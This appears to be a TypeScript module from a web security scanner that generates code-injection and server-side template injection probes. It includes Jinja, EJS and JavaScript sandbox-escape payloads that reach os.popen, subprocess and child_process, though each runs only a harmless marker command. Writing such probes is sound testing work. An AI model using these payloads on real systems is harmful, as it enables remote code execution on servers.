// Text that `eval` and similar functions run as a program: alone, and inside a quoted string of the program.

import type { Json } from '#model/declaration.ts';
import type { Proof } from '#model/injection.ts';
import {
	type InjectionGroup,
	type InjectionKind,
	type InjectionTarget,
	isNamed,
	type Mark,
	says,
	single,
	vocabularyWords,
} from './injection-kind.ts';

const CALCULATING = vocabularyWords(
	'calculate calculator calc math maths expression formula equation evaluate eval compute condition filter rule',
);

const RENDERING = vocabularyWords(
	'template templates render renders rendering placeholder placeholders jinja jinja2 mustache handlebars ejs',
);

export const code: InjectionKind = {
	class: 'code',
	groups(target) {
		if (target.kind !== 'text') return [];
		const likely = says(target, CALCULATING) ? 12 : 0;
		const weight = (language: 'node' | 'python') => (target.language === 'other' || target.language === language ? 70 : 30) + likely;
		const rendered = says(target, RENDERING) ? 8 : 0;
		const [js, py] = [weight('node'), weight('python')];
		return [
			one(js, 'a JavaScript expression', javascript),
			one(js - 9, 'JavaScript between single quotes', (mark) => `'+${javascript(mark)}+'`),
			one(js - 10, 'JavaScript between double quotes', (mark) => `"+${javascript(mark)}+"`),
			one(js - 2 + rendered, 'JavaScript in a template string', (mark) => `\${${javascript(mark)}}`),
			...(rendered === 0
				? []
				: [
						one(js + 3, 'JavaScript in double braces', (mark) => `{{range.constructor('return ${javascript(mark)}')()}}`),
						one(js + 2, 'JavaScript in <%= %>', (mark) => `<%= ${javascript(mark)} %>`),
						one(
							py + 3,
							'Python in double braces',
							(mark) => `{{ ''.__class__.__base__.__subclasses__() }}{{ cycler.__init__.__globals__.os.popen('${command(mark)}').read() }}`,
						),
						one(py + 2, 'Python in a template expression', (mark) => `\${__import__('os').popen('${command(mark)}').read()}`),
					]),
			one(py, "__import__('os')", (mark) => `__import__('os').popen('${command(mark)}').read()`),
			...callables(target, py, js),
			...placeholdersIn(target.ordinary).map((name, index) =>
				single(81 - index, () => ({
					variant: 'attributes of a value through a format string',
					value: `{${name}.__class__.__mro__}`,
					proofs: [{ kind: 'printed', text: "<class 'object'>" }],
				})),
			),
			// This needs no builtins, which the server may have removed.
			one(py - 1, 'a Python expression that walks up the classes', classes),
			one(py - 9, 'Python between single quotes', (mark) => `'+${quoteless(mark)}+'`),
			one(py - 10, 'Python between double quotes', (mark) => `"+${quoteless(mark)}+"`),
		];
	},
};

const FUNCTIONS = vocabularyWords(
	'function functions func fn callable handler class method callback operation operator plugin module factory loader transform transformer hook validator converter',
);

/** html.escape → subprocess.getoutput: a function that is resolved by its name and called with the other arguments. */
function callables(target: InjectionTarget, py: number, js: number): readonly InjectionGroup[] {
	if (!isNamed(target, FUNCTIONS)) return [];
	const isDotted = typeof target.ordinary === 'string' && /^[A-Za-z_]\w*(?:[.:][A-Za-z_]\w*)+$/.test(target.ordinary);
	const more = isDotted ? 14 : -12;
	const separator = typeof target.ordinary === 'string' && target.ordinary.includes(':') ? ':' : '.';
	const named = (weight: number, module: string, name: string) =>
		single(weight + more, ({ left, right }) => ({
			variant: `a function by its name: ${module}.${name}`,
			value: `${module}${separator}${name}`,
			others: `basename ${left}-${right}`,
			proofs: [{ kind: 'ran', program: 'basename', word: `${left}-${right}` }],
		}));
	return [named(py, 'subprocess', 'getoutput'), named(py - 1, 'os', 'system'), named(js, 'child_process', 'execSync')];
}

const MOST_PLACEHOLDERS = 2;

/** Hello {name}! → name */
function placeholdersIn(ordinary: Json): readonly string[] {
	if (typeof ordinary !== 'string') return [];
	return [...ordinary.matchAll(/(?<!\{)\{([a-z_]\w*|\d)\}(?!\})/gi)].map(([, name = '']) => name).slice(0, MOST_PLACEHOLDERS);
}

function one(weight: number, variant: string, text: (mark: Mark) => string): InjectionGroup {
	return single(weight, (mark) => ({ variant, value: text(mark), proofs: proofs(mark) }));
}

function proofs({ product }: Mark): readonly Proof[] {
	return [
		{ kind: 'ran', program: 'basename', word: product },
		{ kind: 'printed', text: product },
	];
}

/** The shell computes the number, so the text does not contain it. */
function command({ left, right }: Mark): string {
	return `basename $((${left}*${right}))`;
}

/** Contains no quotes. In a context of its own, the constructor of an injected object is the way out. */
function javascript({ left, right }: Mark): string {
	const run = `p.getBuiltinModule(/child_process/.source).execFileSync(/basename/.source,[${left}*${right}+[]])+[]`;
	return `(p=>${run})(globalThis.process||this.constructor.constructor(/return process/.source)())`;
}

function classes(mark: Mark): string {
	const found = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0]";
	return `${found}.__init__.__globals__['popen']('${command(mark)}').read()`;
}

function quoteless(mark: Mark): string {
	const text = (value: string) => `bytes([${[...Buffer.from(value)].join(',')}]).decode()`;
	return `__import__(${text('os')}).popen(${text(command(mark))}).read()`;
}
